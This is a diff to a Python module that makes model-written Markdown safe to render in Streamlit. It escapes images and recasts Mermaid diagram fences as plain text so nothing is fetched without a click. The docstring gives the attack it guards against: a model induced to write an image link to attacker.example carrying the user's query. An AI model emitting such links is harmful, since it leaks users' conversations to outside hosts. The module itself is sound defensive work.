@@ -1,153 +1,221 @@
 """Making a model's Markdown harmless: nothing in it is fetched unless a reader clicks it.
 
-``st.markdown`` renders no HTML, but it fetches images. A model that was made to write
-``![](https://attacker.example/?<what the reader asked>)`` would send that away without a click. So
-images become links. Code is left as it is only where it is sure to be code for the browser too;
-where in doubt a backslash is put before the image, and may be seen.
+``st.markdown`` renders no HTML, but it fetches images and draws Mermaid diagrams, which fetch
+images too. A model that was made to write ``![](https://attacker.example/?<what was asked>)`` would
+send that away without a click. So images become links, and diagrams are shown as code.
+
+A CommonMark parser decides what is code, and code stays as it is. Streamlit's dialect adds math,
+directives, footnotes and addresses without brackets. Where one of them could make the browser see
+code elsewhere, a backslash takes its meaning away, so that both parsers see the same code.
 """
 
 from __future__ import annotations
 
 import re
 import textwrap
+from bisect import bisect_right
+from collections import defaultdict
+from collections.abc import Iterable, Iterator, Sequence
+from functools import cache
+from html import unescape
+from itertools import accumulate
+from typing import NamedTuple
 
-__all__ = ["SafePieces", "safe"]
+from markdown_it import MarkdownIt
+
+__all__ = ["parser", "safe"]
 
 IMAGE = "!["
-# At the beginning of a line these begin what this module does not follow: math, footnotes, HTML,
-# containers. So does a carriage return that ends a line by itself.
-BEYOND = re.compile(r"^[ \t]*(?:\$\$|\[\^|<|:::)|\r(?!\n)", re.MULTILINE)
-# Only at the very beginning of a line: an indented fence may belong to a list, and end with it.
-FENCE = re.compile(r"(`{3,}(?=[^`]*$)|~{3,})")
-# In a paragraph with one of these, a backtick may be anything.
-UNSURE = re.compile(r"[<$|{]|\\`|:\w[\w-]*\[")
-CODE = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")
-LINKABLE = re.compile(
-    r"(?:(?<=[\s(\[])|^)!\[(?P<alt>[^\[\]\\`]*)\](?P<rest>\((?P<url>https?://[^\s()<>\\`]+)\)|[(\[])"
+DIAGRAM = "mermaid"
+DIAGRAMS = re.compile(r"(?:`{3}|~{3})[^\r\n]*(?:mermaid|&)", re.IGNORECASE)
+LINE = re.compile(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+")
+BLANK = re.compile(r"(?:\r\n?|\n)[ \t]*(?:\r\n?|\n)")
+# What may stand in front of a block in its first line: quotations and list items.
+CONTAINERS = r"[ \t>*+\d.)-]*"
+FENCE = re.compile(rf"{CONTAINERS}(`{{3,}}(?=[^`]*$)|~{{3,}})")
+# Display math, a directive, a footnote, HTML: blocks that the parser does not know, or not so well.
+BLOCK = re.compile(
+    rf"{CONTAINERS}(\${{2,}}(?=[^$]*$)|:{{2,}}|\[(?=\^)|<(?![a-z][\w.+-]*[:@])(?=[a-z/!?]))",
+    re.IGNORECASE,
 )
+# What follows in an address without brackets, if it may swallow what begins code; a long one may.
+ADDRESS = r"(?=[^ \t\r\n<]{0,300}[`$!]|[^ \t\r\n<]{301})"
+# An image, and what may hold a backtick that then begins no code.
+INLINE = re.compile(
+    rf"""\\.                                         # escaped: without a meaning
+    | ( !\[(?=[ \t\r\n]*\]) | !(?=\[)               # an image, with its bracket if empty
+    | \$                                             # math
+    | :(?![\s/])                                     # a directive
+    | \[(?=\^) | (?<=\])\[(?=[^\]]*`)               # a footnote, a reference
+    | <(?=[a-z/!?])                                  # HTML
+    | (?<=http|ttps):(?=//){ADDRESS} | (?<=www)\.{ADDRESS} )
+    """,
+    re.VERBOSE | re.IGNORECASE | re.DOTALL,
+)
+MATH = re.compile(r"\$\$[ \t]*\n[^$]*(?<=\n)[ \t]*\$\$")
+# The line below a table's head. A table is cut at its bars before anything in it is code.
+RULE = re.compile(r"(?=.*-)(?=.*[|:])[ \t>*+\d.)|:-]*$")
+BAR = re.compile(r"[\r\n]|(?<!(?<!\\)\\)\|")
+TICK = re.compile(r"\\.|(`)", re.DOTALL)
+
+# Characters that stand for those with a meaning while the parser looks for code.
+FIRST, LAST = 0xF0000, 0x10FFFD
+STAND_IN = re.compile(f"[{chr(FIRST)}-{chr(LAST)}]")
 
 
 def safe(markdown: str) -> str:
-    """Return the text with its images as links: ``![alt](url)`` becomes ``[alt](url)``.
+    r"""Return the text with nothing in it that a browser would fetch.
 
-    An image without a text of its own shows its address. Where the form is unusual, only the ``!``
-    loses its meaning. A text without images comes back as it is.
+    An image gets a backslash: ``\![alt](url)`` is an exclamation mark and a link. A Mermaid
+    diagram gets another language: ``text``. A text with neither comes back as it is.
     """
-    if IMAGE not in markdown:
+    if IMAGE not in markdown and not DIAGRAMS.search(markdown):
         return markdown
     # As Streamlit will do it: the browser is sent the text without common indentation.
-    markdown = textwrap.dedent(markdown).strip()
-    fences = not BEYOND.search(markdown)
-    parts: list[str] = []
-    prose: list[str] = []
-    opening = ""
-    for line in markdown.split("\n"):
-        fence = FENCE.match(line) if fences and not opening else None
-        if not opening and not fence:
-            prose.append(line)
-            continue
-        parts += _paragraphs(prose)
-        prose = []
-        parts.append(line)
-        if fence:
-            opening = fence[1]
-        elif _closes(line, opening):
-            opening = ""
-    return "\n".join(parts + _paragraphs(prose))
+    return _Text(textwrap.dedent(markdown).strip()).harmless()
 
 
-class SafePieces:
-    """The same for a text that only grows, without looking ahead: images lose their ``!``'s sense.
-
-    What it gives may differ from :func:`safe` of the whole; both fetch nothing.
-    """
-
-    def __init__(self) -> None:
-        self._text = ""
-        self._held = ""
-
-    def feed(self, piece: str) -> str:
-        """Add text and return what can be shown of it."""
-        text = self._held + piece
-        # The next piece may begin with the bracket.
-        cut = len(text) - 1 if text.endswith("!") else len(text)
-        text, self._held = text[:cut], text[cut:]
-        before, self._text = self._text, self._text + text
-        if IMAGE not in text:
-            return text
-        shown = []
-        for part in re.split(r"(!\[)", text):
-            escape = part == IMAGE and not _in_fence(before) and not _escaped(before)
-            shown.append(f"\\{part}" if escape else part)
-            before += part
-        return "".join(shown)
-
-    def finish(self) -> str:
-        """Return what was held back: nothing more will come."""
-        held, self._held = self._held, ""
-        return held
+@cache
+def parser() -> MarkdownIt:
+    """Return the parser; made when it is first needed."""
+    return MarkdownIt("commonmark").enable("table")
 
 
-def _paragraphs(lines: list[str]) -> list[str]:
-    """Make images in lines outside fenced code links."""
-    if not lines:
-        return []
-    texts = re.split(r"(\n[ \t\r]*\n)", "\n".join(lines))
-    return ["".join(_paragraph(text) if IMAGE in text else text for text in texts)]
+class _Mark(NamedTuple):
+    """Characters with a meaning, and what they begin: an image, a block, or something inline."""
+
+    start: int
+    end: int
+    begins: str
 
 
-def _paragraph(text: str) -> str:
-    outside = CODE.sub("", text)
-    # Code is trusted if each of its backticks has a partner in its own line, and if no bracket
-    # outside could have taken one of them for an address.
-    if UNSURE.search(text) or re.search(r"[`\[\]]", outside.replace(IMAGE, "")):
-        # A backslash in what is code after all is seen; a lost "!" would not be.
-        return _links(text, plainly="`" not in text)
+class _Text:
+    """A text, and where a parser finds code in it when every mark is escaped."""
+
+    def __init__(self, source: str) -> None:
+        self._source = source
+        self._lines = LINE.findall(source)
+        self._starts = [0, *accumulate(map(len, self._lines))]
+        self._marks = _marks(source, self._lines, self._starts)
+        tokens = parser().parse(_with_stand_ins(source, self._marks))
+        blocks = [token for token in tokens if token.type in ("fence", "code_block")]
+        self._fences = [block for block in blocks if block.type == "fence"]
+        self._code_lines = {line for block in blocks for line in range(*(block.map or (0, 0)))}
+        self._in_blocks = _numbers(block.content for block in blocks)
+        self._in_spans = _numbers(
+            child.content
+            for token in tokens
+            for child in token.children or ()
+            if child.type == "code_inline"
+        )
+        self._paragraphs = [
+            token.content for token in tokens if token.type == "inline" and token.level == 1
+        ]
+        # What is inline ends before a blank line.
+        self._ends = [blank.end() for blank in BLANK.finditer(source)]
+        self._prose: dict[int, list[int]] = defaultdict(list)
+        for number, start in enumerate(self._starts[:-1]):
+            if number not in self._code_lines:
+                self._prose[self._region(start)].append(number)
+
+    def harmless(self) -> str:
+        """Return the text with the backslashes and the other languages that it needs."""
+        regions = [self._region(mark.start) for mark in self._marks]
+        images = self._that_begin("image")
+        kept = {regions[number] for number in images & self._in_spans}
+        cut = {region for region in kept if self._may_be_cut(region)}
+        kept -= cut
+        code = self._in_blocks | {n for n in self._in_spans if regions[n] not in cut}
+        languages, fences = self._diagrams()
+        escaped = images | {n for n in self._that_begin("inline") if regions[n] in kept}
+        if images & code or languages or fences:
+            escaped |= self._that_begin("block") - self._whole_math()
+        backslashes = {*fences, *(tick for region in cut for tick in self._ticks(region))}
+        for number in escaped - code:
+            backslashes.update(range(self._marks[number].start, self._marks[number].end))
+        return _edited(self._source, backslashes, languages)
+
+    def _that_begin(self, what: str) -> set[int]:
+        return {number for number, mark in enumerate(self._marks) if mark.begins == what}
+
+    def _region(self, position: int) -> int:
+        return bisect_right(self._ends, position)
+
+    def _may_be_cut(self, region: int) -> bool:
+        """Tell whether a region may be a table, with half of a code span in a cell."""
+        lines = [self._lines[number] for number in self._prose[region]]
+        if not any(RULE.match(line.rstrip("\r\n")) for line in lines):
+            return False
+        cells = [cell for line in lines for cell in BAR.split(line) if "`" in cell]
+        texts = [child for cell in cells for child in parser().parseInline(cell)[0].children or ()]
+        return any("`" in text.content for text in texts if text.type == "text")
+
+    def _ticks(self, region: int) -> Iterator[int]:
+        for number in self._prose[region]:
+            for tick in TICK.finditer(self._lines[number]):
+                if tick[1]:
+                    yield self._starts[number] + tick.start(1)
+
+    def _diagrams(self) -> tuple[dict[int, int], list[int]]:
+        """Find where the languages of diagrams begin and end, and fences that the parser missed."""
+        languages = {}
+        for fence in self._fences:
+            if fence.map and DIAGRAM in unescape(fence.info).lower():
+                line = fence.map[0]
+                end = self._starts[line] + len(self._lines[line].rstrip("\r\n"))
+                languages[end - len(fence.info)] = end
+        missed: list[int] = []
+        for number, text in enumerate(self._lines):
+            begins = FENCE.match(text) if number not in self._code_lines else None
+            if begins and DIAGRAM in unescape(text).lower():
+                missed += (self._starts[number] + at for at in range(*begins.span(1)))
+        return languages, missed
+
+    def _whole_math(self) -> set[int]:
+        """Find display math that is all of a paragraph: no parser takes it for more."""
+        return {
+            number
+            for paragraph in self._paragraphs
+            if MATH.fullmatch(STAND_IN.sub(self._stood_for, paragraph))
+            for number in _numbers([paragraph])
+        }
+
+    def _stood_for(self, stand_in: re.Match[str]) -> str:
+        return self._source[self._marks[ord(stand_in[0]) - FIRST].start]
+
+
+def _marks(source: str, lines: Sequence[str], starts: Sequence[int]) -> list[_Mark]:
+    marks = []
+    for line, start in zip(lines, starts, strict=False):
+        if block := BLOCK.match(line):
+            marks.append(_Mark(start + block.start(1), start + block.end(1), "block"))
+    taken = {at for mark in marks for at in range(mark.start, mark.end)}
+    for inline in INLINE.finditer(source):
+        if inline[1] and inline.start(1) not in taken:
+            what = "image" if inline[1].startswith("!") else "inline"
+            marks.append(_Mark(*inline.span(1), what))
+    return marks
+
+
+def _with_stand_ins(source: str, marks: Sequence[_Mark]) -> str:
+    characters = list(STAND_IN.sub("x", source))
+    for number, mark in enumerate(marks):
+        # Beyond the last no mark is known again, and none is taken for code.
+        stand_in = chr(min(FIRST + number, LAST + 1))
+        characters[mark.start : mark.end] = stand_in * (mark.end - mark.start)
+    return "".join(characters)
+
+
+def _numbers(texts: Iterable[str]) -> set[int]:
+    """Return which marks have stand-ins in the texts."""
+    return {ord(each) - FIRST for text in texts for each in STAND_IN.findall(text)}
+
+
+def _edited(source: str, backslashes: Iterable[int], languages: dict[int, int]) -> str:
     parts = []
     position = 0
-    for code in CODE.finditer(text):
-        parts += [_links(text[position : code.start()]), code[0]]
-        position = code.end()
-    return "".join([*parts, _links(text[position:])])
-
-
-def _links(text: str, *, plainly: bool = True) -> str:
-    """Make every image in a text a link, with its ``!`` shown if not ``plainly``."""
-    parts = []
-    position = 0
-    while (start := text.find(IMAGE, position)) >= 0:
-        parts.append(text[position:start])
-        position = start + 1
-        image = LINKABLE.match(text, start) if plainly else None
-        if _escaped(text[:start]):
-            parts.append("!")
-        elif image and image["alt"].strip():
-            continue
-        elif image and image["url"]:
-            parts.append(f"<{image['url']}>")
-            position = image.end()
-        else:
-            parts.append("\\!")
-    return "".join([*parts, text[position:]])
-
-
-def _escaped(before: str) -> bool:
-    return (len(before) - len(before.rstrip("\\"))) % 2 == 1
-
-
-def _in_fence(text: str) -> bool:
-    """Tell whether what follows ``text`` is sure to be in fenced code."""
-    # What Streamlit strips from the beginning moves the first line.
-    if BEYOND.search(text) or text != text.lstrip():
-        return False
-    opening = ""
-    for line in text.split("\n")[:-1]:
-        if opening:
-            opening = "" if _closes(line, opening) else opening
-        elif fence := FENCE.match(line):
-            opening = fence[1]
-    return bool(opening)
-
-
-def _closes(line: str, opening: str) -> bool:
-    return bool(re.fullmatch(rf" {{0,3}}{re.escape(opening[0])}{{{len(opening)},}}[ \t\r]*", line))
+    for at in sorted({*backslashes, *languages}):
+        parts.append(source[position:at])
+        position = languages.get(at, at)
+        parts.append("text" if at in languages else "\\")
+    return "".join([*parts, source[position:]])
